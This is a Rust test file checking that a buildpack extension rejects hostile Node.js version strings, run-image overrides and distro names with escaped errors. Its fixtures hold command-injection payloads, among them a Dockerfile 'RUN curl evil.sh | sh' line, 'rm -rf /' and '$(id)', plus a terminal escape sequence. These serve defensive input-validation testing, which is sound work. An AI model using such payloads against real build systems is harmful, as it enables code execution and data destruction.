//! Hostile or missing inputs: refused with an error naming them and nothing written.

use crate::support::{
    INVALID_REQUEST, STACK_ID, UBI8, app, fixture, plan, unsatisfiable, with_catalogue,
};
use cnb_harness::{ModuleRun, TargetEnv, assert_contains};

#[test]
fn hostile_values_are_rejected_and_nothing_is_written() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi8.json"));
    for version in [
        "22\nRUN curl evil.sh | sh",
        "22; rm -rf /",
        "$(id)",
        "22 && id",
        "'22'",
        "\"22\"",
        "`id`",
        "22 foo",
    ] {
        let outcome = ModuleRun::new(&module, app("node-npm-engines"))
            .lifecycle_env(STACK_ID, UBI8)
            .buildpack_plan(&plan(&[(Some("package.json"), version)]))
            .generate();
        let quoted = format!("{version:?}");
        outcome.assert_error(
            INVALID_REQUEST,
            &[&format!(
                "the Node.js version {quoted} requested by package.json is not a version range"
            )],
        );
    }
    for image in [
        "x\nRUN id",
        "ubuntu; id",
        "ubuntu $(id)",
        "\"localhost/run\"",
        "localhost/run latest",
        "${base_image}",
    ] {
        let outcome = ModuleRun::new(&module, app("node-npm-engines"))
            .lifecycle_env(STACK_ID, UBI8)
            .platform_env("BP_UBI_RUN_IMAGE_OVERRIDE", image)
            .buildpack_plan(&plan(&[(Some("package.json"), "22")]))
            .generate();
        outcome.assert_error(
            "Cannot choose the run image",
            &[&format!(
                "  BP_UBI_RUN_IMAGE_OVERRIDE: {image:?} is not an image reference"
            )],
        );
    }
    // A hostile version source only reaches the log and the error, escaped.
    let outcome = ModuleRun::new(&module, app("node-npm-engines"))
        .lifecycle_env(STACK_ID, UBI8)
        .buildpack_plan(&plan(&[(Some("x\\nRUN id"), "~99")]))
        .generate();
    outcome.assert_error(
        &unsatisfiable("~99"),
        &["The constraint comes from \"x\\nRUN id\"."],
    );
    assert_contains!(outcome.process.stdout, "      \"x\\nRUN id\" -> \"~99\"\n");
}

/// Issue 13: `~x` or `=*` in package.json `engines.node` aborted generate (exit 134, "entered
/// unreachable code" in the range parser). Now an error naming the request and its source.
#[test]
fn wildcards_after_an_operator_are_errors_not_aborts() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi8.json"));
    for version in ["~x", "=*", "~0.x.0 ~x", "^x.1"] {
        let outcome = ModuleRun::new(&module, app("node-npm-engines"))
            .lifecycle_env(STACK_ID, UBI8)
            .buildpack_plan(&plan(&[(Some("package.json"), version)]))
            .generate();
        outcome.assert_error(
            INVALID_REQUEST,
            &[&format!(
                "  the Node.js version {version:?} requested by package.json is not a version \
                 range"
            )],
        );
    }
}

/// Issue 13: a huge request is quoted by a bounded prefix in the log and the error (1 MiB: the
/// toolkit refuses a Buildpack Plan over 4 MiB before the extension sees it).
#[test]
fn a_huge_request_is_quoted_short() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi8.json"));
    let huge = "2".repeat(1 << 20);
    let outcome = ModuleRun::new(&module, app("node-npm-engines"))
        .lifecycle_env(STACK_ID, UBI8)
        .buildpack_plan(&plan(&[(Some("BP_NODE_VERSION"), &huge)]))
        .generate();
    outcome.assert_error(
        INVALID_REQUEST,
        &[
            "is not a version range (it is longer than 256 bytes)",
            "(cut, 1048576 bytes in all)",
        ],
    );
    assert!(outcome.process.stderr.len() < 1024);
    assert!(outcome.process.stdout.len() < 4096);
}

#[test]
fn no_node_entry_and_unknown_stacks_are_errors() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi8.json"));
    let outcome = ModuleRun::new(&module, app("empty-app"))
        .lifecycle_env(STACK_ID, UBI8)
        .buildpack_plan("[[entries]]\nname = \"npm\"\n")
        .generate();
    outcome.assert_error(
        "Node.js no longer requested by build plan",
        &["  The Buildpack Plan has no \"node\" entry"],
    );

    let outcome = ModuleRun::new(&module, app("empty-app"))
        .lifecycle_env(STACK_ID, "io.buildpacks.stacks.jammy")
        .buildpack_plan(&plan(&[(None, "")]))
        .generate();
    outcome.assert_error(
        "Not a UBI stack",
        &["  unsupported stack \"io.buildpacks.stacks.jammy\" (CNB_STACK_ID)"],
    );

    let outcome = ModuleRun::new(&module, app("empty-app"))
        .target(TargetEnv::linux_amd64("ubuntu", "24.04"))
        .buildpack_plan(&plan(&[(None, "")]))
        .generate();
    outcome.assert_error(
        "Not a UBI stack",
        &["CNB_STACK_ID is not set and the target distro is \"ubuntu\" \"24.04\""],
    );

    // Issue 21: a version that only starts like RHEL 8's was taken for ubi8, and printed raw
    // (this one retitles the terminal).
    let outcome = ModuleRun::new(&module, app("empty-app"))
        .target(TargetEnv::linux_amd64("rhel", "8.10\u{1b}]0;pwned\u{7}"))
        .buildpack_plan(&plan(&[(None, "")]))
        .generate();
    outcome.assert_error(
        "Not a UBI stack",
        &["the target distro is \"rhel\" \"8.10\\u{1b}]0;pwned\\u{7}\""],
    );
    assert!(
        !outcome.process.stdout.contains('\u{1b}') && !outcome.process.stderr.contains('\u{1b}')
    );
}
